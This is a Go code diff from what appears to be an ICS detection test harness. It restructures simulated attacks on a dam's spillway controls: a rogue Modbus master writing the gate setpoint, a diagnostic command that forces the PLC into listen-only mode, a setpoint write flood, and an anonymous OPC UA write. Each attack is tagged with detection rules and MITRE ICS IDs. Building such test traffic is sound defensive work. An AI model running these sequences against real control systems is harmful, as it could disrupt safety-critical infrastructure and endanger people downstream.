@@ -204,7 +204,7 @@ func operatorStep(e *env) error {
 	if err := hmiWrite(e, UnitDam, g1.Addr, g1.Raw(v)); err != nil {
 		return err
 	}
-	e.wait(1500 * time.Millisecond)
+	e.wait(150 * time.Millisecond)
 	return hmiWrite(e, UnitDam, g2.Addr, g2.Raw(v))
 }
 
@@ -259,19 +259,27 @@ var atkRogueMaster = attack{
 	name: "rogue master writes spillway gate 1 setpoint", src: HostAttacker, dst: HostPLC,
 	rules: []string{"new_device", "new_master", "new_channel", "unexpected_write", "write_value_out_of_range"},
 	mitre: []string{"T0848", "T0855", "T0836"},
-	steps: []step{{0, func(e *env) error {
-		s, err := e.openRaw(HostAttacker)
-		if err != nil {
+	steps: []step{
+		{0, func(e *env) error {
+			s, err := e.openRaw(HostAttacker)
+			if err != nil {
+				return err
+			}
+			e.atkRaw = s
+			_, err = s.request(UnitDam, pduRead(modbus.FuncReadHoldingRegisters, 0, 4))
 			return err
-		}
-		defer s.close()
-		if _, err := s.request(UnitDam, pduRead(modbus.FuncReadHoldingRegisters, 0, 4)); err != nil {
+		}},
+		{1200 * time.Millisecond, func(e *env) error {
+			s := e.atkRaw
+			if s == nil {
+				return nil
+			}
+			defer s.close()
+			e.atkRaw = nil
+			_, err := s.request(UnitDam, pduWriteRegister(0, TagByName(TagGate1SP).Raw(40)))
 			return err
-		}
-		e.wait(1200 * time.Millisecond)
-		_, err = s.request(UnitDam, pduWriteRegister(0, TagByName(TagGate1SP).Raw(40)))
-		return err
-	}}},
+		}},
+	},
 }
 
 var atkUnexpectedWrite = attack{
@@ -304,15 +312,23 @@ var atkDiagnostics = attack{
 			if err != nil {
 				return err
 			}
-			if _, err := s.request(UnitDam, pduDiag(modbus.SubReturnQueryData, 0xA5A5)); err != nil {
-				s.close()
-				return err
+			e.atkRaw = s
+			_, err = s.request(UnitDam, pduDiag(modbus.SubReturnQueryData, 0xA5A5))
+			return err
+		}},
+		{500 * time.Millisecond, func(e *env) error {
+			if e.atkRaw == nil {
+				return nil
 			}
-			e.wait(500 * time.Millisecond)
 			// No answer is expected: the PLC goes listen-only.
-			_, _ = s.request(UnitDam, pduDiag(modbus.SubForceListenOnlyMode, 0))
-			e.wait(2 * time.Second)
-			s.close()
+			_, _ = e.atkRaw.request(UnitDam, pduDiag(modbus.SubForceListenOnlyMode, 0))
+			return nil
+		}},
+		{2500 * time.Millisecond, func(e *env) error {
+			if e.atkRaw != nil {
+				e.atkRaw.close()
+				e.atkRaw = nil
+			}
 			return nil
 		}},
 		{20*time.Second + 300*time.Millisecond, func(e *env) error {
@@ -373,16 +389,21 @@ var atkWriteFlood = attack{
 	name: "HMI floods gate 1 setpoint writes", src: HostHMI, dst: HostPLC,
 	rules: []string{"request_flood"},
 	mitre: []string{"T0806", "T0855"},
-	steps: []step{{400 * time.Millisecond, func(e *env) error {
-		t := TagByName(TagGate1SP)
-		for i := range 200 {
-			if err := hmiWrite(e, UnitDam, t.Addr, t.Raw(operatorGate[i%len(operatorGate)])); err != nil {
-				return err
-			}
-			e.wait(45 * time.Millisecond)
-		}
-		return nil
-	}}},
+	steps: floodSteps(),
+}
+
+// floodSteps writes the gate 1 setpoint 200 times, 45 ms apart, each write
+// its own event so the HMI's polls interleave on the same connection.
+func floodSteps() []step {
+	t := TagByName(TagGate1SP)
+	var out []step
+	for i := range 200 {
+		v := t.Raw(operatorGate[i%len(operatorGate)])
+		out = append(out, step{400*time.Millisecond + time.Duration(i)*45*time.Millisecond, func(e *env) error {
+			return hmiWrite(e, UnitDam, t.Addr, v)
+		}})
+	}
+	return out
 }
 
 // pollSilence is how long poll_stop keeps the HMI quiet.
@@ -443,25 +464,33 @@ var atkUAAnonWrite = attack{
 	name: "anonymous OPC UA session writes spillway gate 1 setpoint", src: HostAttacker, dst: HostUAServer,
 	rules: []string{"opcua_new_client", "opcua_anonymous_session", "opcua_unexpected_write", "new_device", "new_channel"},
 	mitre: []string{"T0855", "T0836"},
-	steps: []step{{0, func(e *env) error {
-		u, err := e.openUA(HostAttacker, "UaExpert", "", "")
-		if err != nil {
+	steps: []step{
+		{0, func(e *env) error {
+			u, err := e.openUA(HostAttacker, "UaExpert", "", "")
+			if err != nil {
+				return err
+			}
+			e.atkUA = u
+			_, err = u.readTags([]string{TagGate1SP})
 			return err
-		}
-		defer u.close()
-		if _, err := u.readTags([]string{TagGate1SP}); err != nil {
-			return err
-		}
-		e.wait(1500 * time.Millisecond)
-		st, err := u.writeTag(TagGate1SP, float64(60))
-		if err != nil {
-			return err
-		}
-		if st != ua.StatusOK {
-			return fmt.Errorf("anonymous write: %s", st)
-		}
-		return nil
-	}}},
+		}},
+		{1500 * time.Millisecond, func(e *env) error {
+			u := e.atkUA
+			if u == nil {
+				return nil
+			}
+			defer u.close()
+			e.atkUA = nil
+			st, err := u.writeTag(TagGate1SP, float64(60))
+			if err != nil {
+				return err
+			}
+			if st != ua.StatusOK {
+				return fmt.Errorf("anonymous write: %s", st)
+			}
+			return nil
+		}},
+	},
 }
 
 var atkUANewClient = attack{
